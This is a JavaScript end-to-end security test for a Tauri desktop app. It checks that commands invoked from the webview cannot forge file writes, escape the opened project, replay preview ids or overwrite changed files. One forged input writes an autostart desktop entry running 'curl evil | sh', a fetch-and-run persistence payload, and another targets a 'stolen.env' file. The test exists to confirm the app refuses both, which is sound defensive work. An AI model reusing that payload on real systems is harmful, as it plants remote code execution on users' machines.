// The webview proposes, Rust disposes: a script in the page calls the app's commands directly,
// as an attacker's script would, and the real app refuses every write it did not prepare.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openProject } from './actions.mjs';
import { WebDriver } from './webdriver.mjs';

const APP = process.env.PIPES_E2E_APP;
const driver = new WebDriver(process.env.PIPES_E2E_DRIVER ?? 'http://127.0.0.1:4444');

let project;
let target;

before(async () => {
  project = mkdtempSync(join(tmpdir(), 'pipes-e2e-trust-'));
  writeFileSync(join(project, 'package.json'), JSON.stringify({ name: 'trust' }));
  writeFileSync(join(project, '.gitignore'), 'node_modules\n');
  target = mkdtempSync(join(tmpdir(), 'pipes-e2e-autostart-'));
  await driver.start(APP);
  await driver.waitFor('nav[aria-label="Setup steps"] button[data-step]');
  await openProject(driver, project);
});

after(async () => {
  await driver.quit().catch(() => {});
});

/** Calls a command from the page as any script there could, and answers what came back. */
async function invokeFromPage(command, args) {
  const call = JSON.stringify({ command, args });
  return driver.executeAsync(`
    const { command, args } = ${call};
    try {
      return { ok: await window.__TAURI_INTERNALS__.invoke(command, args) };
    } catch (error) {
      return { error };
    }`);
}

test('the forged write of session 2 is refused and writes nothing', async () => {
  const desktopEntry = join(target, 'autostart.desktop');
  const forged = await invokeFromPage('apply_gitignore_fix', {
    preview: {
      path: desktopEntry,
      line: 'x',
      before: '',
      after: '[Desktop Entry]\nExec=sh -c "curl evil | sh"\n',
      creates_file: true,
      already_present: false,
    },
  });
  assert.ok(forged.error, `refused: ${JSON.stringify(forged)}`);
  const forgedId = await invokeFromPage('apply_gitignore_fix', { id: '0123456789abcdef0123456789abcdef' });
  assert.equal(forgedId.error?.code, 'ACTION_UNKNOWN');
  const forgedEnv = await invokeFromPage('apply_env_write', {
    preview: { path: join(target, 'stolen.env'), file: 'stolen.env', creates_file: true, after_masked: '' },
    clientId: null,
  });
  assert.ok(forgedEnv.error, `refused: ${JSON.stringify(forgedEnv)}`);
  assert.equal(existsSync(desktopEntry), false, 'no file was written');
  assert.equal(existsSync(join(target, 'stolen.env')), false);
  assert.equal(existsSync(join(target, '.gitignore')), false);
});

test('a preview for a folder the user never opened, or for another line, is refused', async () => {
  const outside = await invokeFromPage('preview_gitignore_fix', {
    fix: { kind: 'add_to_gitignore', project: target, line: '.env' },
  });
  assert.equal(outside.error?.code, 'FIX_OUTSIDE_PROJECT');
  const escape = await invokeFromPage('preview_gitignore_fix', {
    fix: { kind: 'add_to_gitignore', project: join(project, '..', target.split('/').pop()), line: '.env' },
  });
  assert.equal(escape.error?.code, 'FIX_OUTSIDE_PROJECT');
  const otherLine = await invokeFromPage('preview_gitignore_fix', {
    fix: { kind: 'add_to_gitignore', project, line: '[Desktop Entry]' },
  });
  assert.equal(otherLine.error?.code, 'GITIGNORE_BAD_LINE');
  assert.equal(existsSync(join(target, '.gitignore')), false);
  assert.equal(readFileSync(join(project, '.gitignore'), 'utf8'), 'node_modules\n');
});

test('a real preview applies once; its id replayed is refused', async () => {
  const proposal = await invokeFromPage('preview_gitignore_fix', {
    fix: { kind: 'add_to_gitignore', project, line: '.env.local' },
  });
  assert.match(proposal.ok?.id ?? '', /^[0-9a-f]{32}$/, JSON.stringify(proposal));
  assert.equal(proposal.ok.view.path, join(project, '.gitignore'));
  const first = await invokeFromPage('apply_gitignore_fix', { id: proposal.ok.id });
  assert.deepEqual(first, { ok: null });
  assert.equal(readFileSync(join(project, '.gitignore'), 'utf8'), 'node_modules\n.env.local\n');
  writeFileSync(join(project, '.gitignore'), 'node_modules\n');
  const replay = await invokeFromPage('apply_gitignore_fix', { id: proposal.ok.id });
  assert.equal(replay.error?.code, 'ACTION_UNKNOWN');
  assert.equal(readFileSync(join(project, '.gitignore'), 'utf8'), 'node_modules\n', 'the replay wrote nothing');
});

test('a file changed after its preview is not overwritten', async () => {
  const proposal = await invokeFromPage('preview_gitignore_fix', {
    fix: { kind: 'add_to_gitignore', project, line: '.env' },
  });
  writeFileSync(join(project, '.gitignore'), 'node_modules\ndist\n');
  const applied = await invokeFromPage('apply_gitignore_fix', { id: proposal.ok.id });
  assert.equal(applied.error?.code, 'GITIGNORE_CHANGED');
  assert.equal(readFileSync(join(project, '.gitignore'), 'utf8'), 'node_modules\ndist\n');
});
